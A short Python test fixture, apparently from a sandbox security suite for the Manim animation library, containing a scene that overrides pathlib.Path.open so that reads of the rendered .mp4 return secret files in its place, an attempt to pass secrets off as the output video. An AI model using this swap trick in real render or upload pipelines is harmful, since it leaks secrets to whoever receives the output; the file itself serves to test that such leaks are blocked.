"""Puts a link to a secret where Manim's finished film is, just before it is handed in.

title: no secret is handed in as a film
kind: results
canary: the secrets in the files
needs: film
verdicts: failed done
control: no (result_symlink is the same without Manim)
"""
import os, pathlib
from manim import *

HOST = {}

class Attack(Scene):
    def construct(self):
        self.wait(0.2)
        read = pathlib.Path.open
        def swap(self, *arguments, **more):
            if str(self).endswith(".mp4"):
                for secret in HOST["secrets"].values():
                    try:
                        return read(pathlib.Path(secret), "rb")
                    except OSError as error:
                        print(error)
            return read(self, *arguments, **more)
        pathlib.Path.open = swap
